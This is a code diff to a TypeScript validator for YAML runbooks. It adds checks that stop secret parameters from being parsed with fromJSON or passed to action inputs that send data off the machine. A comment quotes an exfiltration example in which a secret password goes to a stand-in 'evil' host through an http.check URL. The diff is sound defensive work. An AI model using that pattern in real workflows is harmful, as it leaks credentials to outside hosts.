@@ -261,7 +261,26 @@ export function semanticProblems(value: unknown, source: YamlSource, actions: Ac
           push(
             [...path, ...reference.location],
             'secret-in-expression',
-            `${steering} is a secret: a value may carry it (redacted) or test whether it is empty (${steering} != ''), but not choose by comparing or searching it (==, <, contains, startsWith, a computed index…), which would tell its characters`,
+            `${steering} is a secret: a value may carry it (redacted) or test whether it is empty (${steering} != ''), but not choose by comparing or searching it (==, <, contains, startsWith, a computed index…), which would tell its characters, nor parse it with fromJSON (whether it parses tells its shape)`,
+            {expression: reference.expression},
+          )
+      }
+    }
+    // A secret param read in an input that leaves the machine (issue 16: `http.check url: https://evil/${{ params.pw }}`
+    // sent it in the request line): only inputs an action declares secret or local may read one (ActionDefinition).
+    const checkSentOut = (uses: string, given: unknown, path: PathSegment[]) => {
+      if (secretParams.size === 0 || !isObject(given)) return
+      const action = actions.find(uses)
+      if (!action) return
+      const kept = new Set([...(action.secretInputs ?? []), ...(action.localInputs ?? [])])
+      for (const [name, value] of Object.entries(given)) {
+        if (kept.has(name)) continue
+        const reference = listReferences(value).find((r) => readsSecretParam({context: r.context, path: r.path, computed: r.path.length === 0}))
+        if (reference)
+          push(
+            [...path, name, ...reference.location],
+            'secret-sent-out',
+            `${[reference.context, ...reference.path].join('.')} is a secret, and input ${name} of ${action.name} is sent out of this machine (to Azure or another host), where redaction cannot follow it; a secret may only reach inputs meant for one${kept.size > 0 ? ` (${[...kept].join(', ')})` : ''}`,
             {expression: reference.expression},
           )
       }
@@ -272,6 +291,8 @@ export function semanticProblems(value: unknown, source: YamlSource, actions: Ac
       const scope: RefScope = {params: paramNames, byId, allIds, allowedSteps: scopeOf(step, false), referrer: step.id, actions, inForEach}
       checkSyntax(step.with, [...step.path, 'with'])
       checkRefs(listReferences(step.with ?? {}), [...step.path, 'with'], scope)
+      if (step.uses !== undefined && calledRunbook(step.uses) === undefined) checkSentOut(step.uses, step.with, [...step.path, 'with'])
+      if (step.rollback?.uses !== undefined) checkSentOut(step.rollback.uses, step.rollback.with, [...step.path, 'rollback', 'with'])
       if (step.if !== undefined) {
         let expression: string | undefined
         try {
